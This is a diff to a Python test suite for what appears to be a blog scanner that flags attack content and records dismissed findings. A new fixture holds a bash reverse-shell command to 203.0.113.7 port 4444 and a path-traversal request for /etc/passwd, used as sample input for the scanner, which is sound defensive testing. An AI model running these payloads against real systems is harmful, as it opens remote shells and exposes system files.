@@ -33,6 +33,7 @@ def including(root: Path, config: str = f"{CONFIG}{SNIPPETS}") -> Blog:
     return blog
 
 
+@pytest.mark.matrix
 def test_a_snippet_on_two_pages_is_one_finding_in_its_own_file(tmp_path: Path) -> None:
     blog = including(tmp_path / "blog")
     assert blog.check().code == 0
@@ -70,6 +71,37 @@ def test_what_the_sources_hold_is_not_told_again(tmp_path: Path) -> None:
     blog.commit()
     built = blog.build()
     assert (built.code, re.findall(r"TG\d{3}", built.err)) == (0, [])
+
+
+FENCED = """\
+The request `bash -i >& /dev/tcp/203.0.113.7/4444` is bash -i \\>& /dev/tcp/203.0.113.7/4444
+
+## Exploiting the demo parser
+
+### Proof of Concept
+
+```http
+POST /demo/path?name=../../../../etc/passwd HTTP/1.1
+Host: target.example.com
+```
+
+- [a demo tool](https://example.com/tool) - A tool that helps you launch attacks on the demo parser of others
+- [another one](https://example.com/other) - A tool of the same kind
+"""
+"""What reads otherwise on the page in its marks alone: an escape, the fence of code, a link before words."""
+
+
+def test_what_was_dismissed_is_not_told_again_for_the_marks_of_its_markdown(tmp_path: Path) -> None:
+    blog = Blog(tmp_path / "blog").start().signed("liu@example.com")
+    path = blog.post(declaration=NOTHING, body=FENCED)
+    blog.commit()
+    (found,) = blog.check().report["findings"]
+    assert found["rule"] == "TG403"
+    told = blog.threatgate("dismiss", path, found["fingerprint"], "--reason", "ours", "--until", "2099-01-01")
+    assert told.code == 0, told.err
+    blog.commit()
+    built = blog.build("--quiet")
+    assert (built.code, built.shown) == (0, []), built.err
 
 
 def test_a_title_that_a_hook_gives_a_page_must_be_declared(tmp_path: Path) -> None:
@@ -131,6 +163,7 @@ def test_nothing_of_the_ledger_or_a_declaration_reaches_the_site(what: str, tmp_
     assert not (blog.root / "site").exists()
 
 
+@pytest.mark.matrix
 @pytest.mark.parametrize(
     "form", ["json.dumps(page.meta, default=str)", "Path(page.file.abs_src_path).read_text()"]
 )
@@ -155,6 +188,7 @@ def test_what_the_site_itself_makes_public_is_no_giveaway(tmp_path: Path) -> Non
 # --- the manifest ----------------------------------------------------------------------------------
 
 
+@pytest.mark.matrix
 def test_the_manifest_is_the_same_for_the_same_sources_and_names_what_is_published(tmp_path: Path) -> None:
     blog = filed(tmp_path / "blog", "")
     assert blog.build("--quiet").code == 0
@@ -216,6 +250,7 @@ def test_a_search_index_is_read_by_the_pages_that_it_repeats(tmp_path: Path) -> 
     docs = [
         {"location": "a/", "title": "A", "text": "One."},
         {"location": "a/#s", "title": "S", "text": "Two."},
+        {"location": "two%20words/#dns-exfiltration", "title": "T", "text": "Three."},
     ]
     (tmp_path / "search").mkdir()
     (tmp_path / "search/search_index.json").write_text(json.dumps({"config": {"lang": ["en"]}, "docs": docs}))
@@ -223,6 +258,7 @@ def test_a_search_index_is_read_by_the_pages_that_it_repeats(tmp_path: Path) -> 
     held = {address: one.markup.split("\n") for address, one in contents(output, "site/x").texts}
     assert held == {
         "a/index.html": ["location", "title", "A", "text", "One.", "location", "title", "S", "text", "Two."],
+        "two words/index.html": ["location", "title", "T", "text", "Three."],
         "index.html": ["config", "lang", "en"],
     }
     assert [page_address(one) for one in ("", "a/", "a.html")] == ["index.html", "a/index.html", "a.html"]
